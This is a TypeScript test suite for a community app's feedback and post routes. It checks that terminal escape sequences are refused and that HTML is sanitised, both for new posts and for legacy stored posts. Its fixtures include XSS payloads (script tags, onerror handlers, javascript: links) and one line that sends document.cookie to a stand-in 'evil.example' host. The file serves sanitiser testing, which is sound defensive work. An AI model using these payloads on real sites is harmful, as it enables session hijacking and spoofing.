import { LOCALES, POST_STATUS } from '@rigshare/domain';
import { migrateTo } from '../src/db/migrations';
import { insertMember } from '../src/features/accounts';
import { postForMember, reviewPost } from '../src/features/community';
import { asMember, getAs, MANY_MEMBERS, post, signedInMember, startApp, testDatabases, type TestContext } from './helpers';

jest.setTimeout(120_000);

/** A multipart body of text fields only. */
function multipart(fields: Record<string, string>) {
  const boundary = '----rigshareInert' + Math.random().toString(16).slice(2);
  const parts = Object.entries(fields).map(([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`);
  return { payload: Buffer.from(`${parts.join('')}--${boundary}--\r\n`), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

const LOCALE_HEADERS = LOCALES.map((l) => l.header);
const ELEVEN_WORDS = 'My withdrawal from yesterday has not arrived yet, please check it.';
/** What cleared the operator's terminal and forged a row in `feedback:list` (issue 53). */
const ESCAPES = `${ELEVEN_WORDS}\u001b[2J\u001b[H\u001b[32mAPPROVED OK\u001b[0m`;

describe.each(testDatabases())('text with control characters on %s', (_name, database) => {
  let ctx: TestContext;
  beforeAll(async () => {
    ctx = await startApp(database, MANY_MEMBERS);
  });
  afterAll(() => ctx.close());

  const feedbackRows = async () => Number((await ctx.db.kysely.selectFrom('feedback').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
  const postRows = async () => Number((await ctx.db.kysely.selectFrom('posts').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);

  it('multipart feedback and posts refuse them as the JSON routes do: 400, the same message in every language, nothing stored', async () => {
    const m = await signedInMember(ctx);
    const sendFeedback = (fields: Record<string, string>, language: string) => {
      const body = multipart(fields);
      return ctx.app.inject({ method: 'POST', url: '/api/push/feedback/create', payload: body.payload, headers: { ...body.headers, ...asMember(m.token), language } });
    };
    const sendPost = (fields: Record<string, string>, language: string) => {
      const body = multipart(fields);
      return ctx.app.inject({ method: 'POST', url: '/api/comment/square/add', payload: body.payload, headers: { ...body.headers, ...asMember(m.token), language } });
    };
    const feedbackBefore = await feedbackRows();
    const postsBefore = await postRows();
    for (const language of LOCALE_HEADERS) {
      // A JSON (form) route with a text field: its schema refuses the control characters.
      const json = await post(ctx.app, '/api/comment/square/addText', { content: ESCAPES }, { ...asMember(m.token), language });
      expect(json.statusCode).toBe(400);
      expect([language, (await sendFeedback({ content: ESCAPES }, language)).json()]).toEqual([language, json.json()]);
      expect([language, (await sendFeedback({ content: ELEVEN_WORDS, phone: '98765\u001b[2K' }, language)).json()]).toEqual([language, json.json()]);
      expect([language, (await sendPost({ content: ESCAPES }, language)).json()]).toEqual([language, json.json()]);
      expect([language, (await sendPost({ content: 'ok', videoUrl: 'https://v.example/\u0007' }, language)).json()]).toEqual([language, json.json()]);
    }
    expect(new Set(await Promise.all(LOCALE_HEADERS.map(async (language) => (await sendFeedback({ content: ESCAPES }, language)).json().msg))).size).toBe(LOCALE_HEADERS.length);
    expect(await feedbackRows()).toBe(feedbackBefore);
    expect(await postRows()).toBe(postsBefore);

    // Line breaks and tabs are what a multi-line box sends: taken, as by the JSON routes.
    const multiLine = `${ELEVEN_WORDS}\nSecond line\twith a tab.`;
    const taken = await sendFeedback({ content: multiLine }, 'en_US');
    expect(taken.json()).toMatchObject({ code: 200, data: { content: multiLine } });
    expect((await getAs(ctx, '/api/push/feedback/list', m.token)).json().data.list[0].content).toBe(multiLine);
  });

  /** Every way script gets into HTML that the probes used, around text and links that may stay. */
  const HOSTILE =
    '<p onclick="steal()">Hi <a href="javascript:alert(1)">x</a> <a href="https://ok.example/a" onmouseover="x()" target="_top">ok</a></p>' +
    '<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)><circle/></svg><iframe src="https://evil.example"></iframe>' +
    '<style>*{display:none}</style><a href=" JaVaScRiPt:alert(4)">y</a><a href="data:text/html,<script>alert(5)</script>">z</a>' +
    '<form action="https://evil.example"><input name=pin></form><b style="position:fixed">bold</b>';
  const CLEAN = '<p>Hi <a>x</a> <a href="https://ok.example/a">ok</a></p><a>y</a><a>z</a><b>bold</b>';

  it('posts are stored sanitised with the allow-list, whichever way they arrive; a post of nothing but script is refused as empty', async () => {
    ctx.advance(3_600_001);
    const m = await signedInMember(ctx);
    const stored = async (id: number) => (await ctx.db.kysely.selectFrom('posts').select('content').where('id', '=', id).executeTakeFirstOrThrow()).content;

    const json = await post(ctx.app, '/api/comment/square/addText', { content: HOSTILE }, asMember(m.token));
    expect(json.json()).toMatchObject({ code: 200, data: { content: CLEAN } });
    expect(await stored(json.json().data.id)).toBe(CLEAN);

    const body = multipart({ content: HOSTILE });
    const form = await ctx.app.inject({ method: 'POST', url: '/api/comment/square/add', payload: body.payload, headers: { ...body.headers, ...asMember(m.token) } });
    expect(form.json()).toMatchObject({ code: 200, data: { content: CLEAN } });
    expect(await stored(form.json().data.id)).toBe(CLEAN);

    const byStaff = await postForMember(ctx.db, { member: { phone: m.phone }, content: HOSTILE, role: 'manager', by: 'ann', at: ctx.clock() });
    expect(await stored(byStaff)).toBe(CLEAN);
    await reviewPost(ctx.db, { id: json.json().data.id, decision: 'pass', by: 'ann', at: ctx.clock() });
    const feed = (await getAs(ctx, '/api/comment/square/list?pageNum=1&pageSize=50', m.token)).json().data.list as { id: number; content: string }[];
    expect(feed.filter((p) => [json.json().data.id, byStaff].includes(p.id)).map((p) => p.content)).toEqual([CLEAN, CLEAN]);

    // Nothing left to show once the script is gone: refused as a blank post, nothing stored.
    const before = await postRows();
    const onlyScript = await post(ctx.app, '/api/comment/square/addText', { content: '<img src=x onerror=alert(1)><script>alert(2)</script>' }, asMember(m.token));
    expect(onlyScript.json()).toEqual({ code: 400, msg: 'Please write something to post', data: null });
    expect(await postRows()).toBe(before);

    // Comments and names are plain text: kept as written, and every screen shows them as text.
    const comment = await post(ctx.app, '/api/comment/comment/text', { squareId: String(json.json().data.id), content: '<img src=x onerror=alert(1)>' }, asMember(m.token));
    expect(comment.json()).toMatchObject({ code: 200 });
    const comments = (await getAs(ctx, `/api/comment/comment/list?squareId=${json.json().data.id}&pageNum=1&pageSize=5`, m.token)).json().data.list;
    expect(comments.map((c: { content: string }) => c.content)).toEqual(['<img src=x onerror=alert(1)>']);
  });
});

describe.each(testDatabases())('posts stored before sanitising on %s', (_name, database) => {
  let ctx: TestContext;
  const legacy: Record<string, number> = {};
  const RAW = '<p>Old <i>post</i></p><img src=x onerror=alert(1)><a href="javascript:alert(2)">link</a>';
  beforeAll(async () => {
    // A database as the release before this one left it: posts stored exactly as members sent them.
    ctx = await startApp(database, {}, {}, async (db) => {
      await migrateTo(db.kysely, db.dialect, '0045_file_access');
      const userId = await insertMember(db.kysely, { phone: '9111000001', passwordHash: 'x', inviterId: null, now: new Date() });
      const insert = async (content: string, status: number) =>
        (await db.kysely.insertInto('posts').values({ user_id: userId, content, video_url: null, status, created_at: new Date().toISOString() }).returning('id').executeTakeFirstOrThrow()).id;
      legacy.raw = await insert(RAW, POST_STATUS.passed);
      legacy.pending = await insert('<script>document.location="https://evil.example/?"+document.cookie</script>', POST_STATUS.pending);
      legacy.clean = await insert('<p>Already <b>clean</b></p>', POST_STATUS.passed);
      legacy.text = await insert('No markup & nothing to clean > here', POST_STATUS.passed);
    });
  });
  afterAll(() => ctx.close());

  it('the upgrade cleans them with the same allow-list; clean ones and plain text stay as they were', async () => {
    const rows = await ctx.db.kysely.selectFrom('posts').select(['id', 'content']).where('id', 'in', Object.values(legacy)).execute();
    const content = (id: number) => rows.find((r) => r.id === id)!.content;
    expect(content(legacy.raw)).toBe('<p>Old <i>post</i></p><a>link</a>');
    expect(content(legacy.pending)).toBe('');
    expect(content(legacy.clean)).toBe('<p>Already <b>clean</b></p>');
    expect(content(legacy.text)).toBe('No markup & nothing to clean > here');
  });
});
